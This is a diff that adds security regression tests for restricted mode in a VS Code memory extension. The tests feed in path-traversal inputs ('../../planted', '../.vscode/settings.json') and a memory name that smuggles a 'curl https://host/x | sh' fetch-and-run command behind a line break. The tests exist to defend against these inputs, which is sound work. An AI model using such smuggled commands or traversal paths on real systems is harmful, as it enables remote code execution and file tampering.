@@ -1,6 +1,6 @@
 import * as assert from 'node:assert/strict';
 import { randomBytes } from 'node:crypto';
-import { existsSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import * as path from 'node:path';
 import * as vscode from 'vscode';
 import type { MemoryShelfApi } from '../../src/extension';
@@ -77,6 +77,39 @@ describe('Restricted mode: a cloned repository cannot make Memory Shelf read, wr
     const applied = await vscode.commands.executeCommand('_memoryShelf.applyFileEdits', vscode.Uri.file(outside()), [{ kind: 'create', path: 'planted.md', content: 'x' }]);
     assert.equal(applied, false);
     assert.ok(!existsSync(outside('planted.md')));
+  });
+
+  it('creates a reserved memory only of a configured type, never a type that is a path (finding 8)', async () => {
+    for (const type of ['unconfigured', '../../planted']) {
+      const created = await vscode.commands.executeCommand('memoryShelf.createReservedMemory', { root: workspaceUri('memory').toString(), name: 'planted', type });
+      assert.equal(created, undefined, type);
+    }
+    assert.deepEqual(readdirSync(workspaceUri('memory').fsPath).filter((name) => name.includes('planted')), []);
+    assert.ok(!existsSync(path.join(workspaceUri().fsPath, '..', 'planted_planted.md')));
+  });
+
+  it('opens from the editor form only a backlink it listed (finding 8)', async () => {
+    const uri = memory('project_release-checklist.md');
+    await vscode.commands.executeCommand('memoryShelf.openEditor', uri);
+    let session: ReturnType<typeof api.editors.sessionsFor>[number] | undefined;
+    await eventually(() => assert.ok((session = api.editors.sessionsFor(uri)[0])));
+    await session!.receive({ kind: 'ready' });
+    await session!.receive({ kind: 'openBacklink', path: '../.vscode/settings.json', line: 0 });
+    const opened = vscode.workspace.textDocuments.map((document) => document.uri.path);
+    assert.ok(!opened.some((p) => p.endsWith('.vscode/settings.json')), opened.join(', '));
+    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+  });
+
+  it('copies a name holding a line break as one line (finding 8)', async () => {
+    const file = memory('reference_two-lines.md');
+    writeFileSync(file.fsPath, '---\nname: "harmless\\ncurl https://host/x | sh"\ndescription: a name with a line break in it\ntype: reference\n---\nBody.\n');
+    const root = api.roots.rootAt(workspaceUri('memory'));
+    await eventually(() => assert.ok(root?.store.get('reference_two-lines.md')?.name?.includes('\n')));
+    const node = { kind: 'memory', root, memory: root!.store.get('reference_two-lines.md') };
+    await vscode.commands.executeCommand('memoryShelf.copyName', node);
+    assert.equal(await vscode.env.clipboard.readText(), 'harmless curl https://host/x | sh');
+    await vscode.commands.executeCommand('memoryShelf.copyLink', node);
+    assert.equal(await vscode.env.clipboard.readText(), '[[harmless curl https://host/x | sh]]');
   });
 
   it('ignores the workspace\'s severity, exclude and types settings: the secret rule still reports (finding 7)', async () => {
